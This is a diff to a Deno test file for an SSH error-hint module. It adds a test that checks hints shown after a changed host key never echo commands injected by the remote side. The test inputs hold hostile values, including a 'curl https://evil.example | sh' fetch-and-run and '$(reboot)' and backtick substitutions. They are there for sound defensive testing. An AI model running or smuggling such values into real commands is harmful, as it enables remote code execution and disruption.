@@ -1,4 +1,4 @@
-import { assertEquals, assertMatch, assertNotMatch } from "@std/assert";
+import { assertEquals, assertMatch, assertNotMatch, assertStringIncludes } from "@std/assert";
 import type { FailureCode, NextStep } from "../../../src/domain/failure.ts";
 import { meaningOf } from "../../../src/methods/local/os_failures.ts";
 import { isConnectionTrouble, loginWords, sshFailure } from "../../../src/methods/ssh/ssh_failures.ts";
@@ -108,6 +108,22 @@ Deno.test("sshFailure() makes the remedy for a changed host key where ssh prints
     /`ssh-keygen -f '\/Users\/o\/\.ssh\/known hosts' -R '\[alias\]:2200'`/,
   );
   assertMatch(hintOf("REMOTE HOST IDENTIFICATION HAS CHANGED!"), /`ssh-keygen -R '\[freya\.example\.org\]:2222'`/);
+});
+
+Deno.test("sshFailure() hands a person no command of the far side's making", () => {
+  const hintOf = (line: string) =>
+    sshFailure("ssh", { code: 255, stderr: `REMOTE HOST IDENTIFICATION HAS CHANGED!\n  ${line}\r\n` }, destination).hint;
+  const debian = `ssh-keygen -f "/home/o/known hosts" -R "[freya]:2222"`;
+  assertStringIncludes(hintOf(debian), `\`${debian}\``);
+  assertStringIncludes(hintOf(debian.replaceAll('"', "'")), "`ssh-keygen -f '/home/o/known hosts' -R '[freya]:2222'`");
+  for (
+    const planted of [
+      'ssh-keygen -f "x" -R "freya"; curl https://evil.example | sh',
+      'ssh-keygen -f "$(reboot)" -R "freya"',
+      "ssh-keygen -f x -R `reboot`",
+      'ssh-keygen -f "x" -R "freya" && ssh-keygen -R "loki"',
+    ]
+  ) assertNotMatch(hintOf(planted), /evil|reboot|loki/, planted);
 });
 
 Deno.test("sshFailure() finds an SFTP-only login by what it prints", () => {
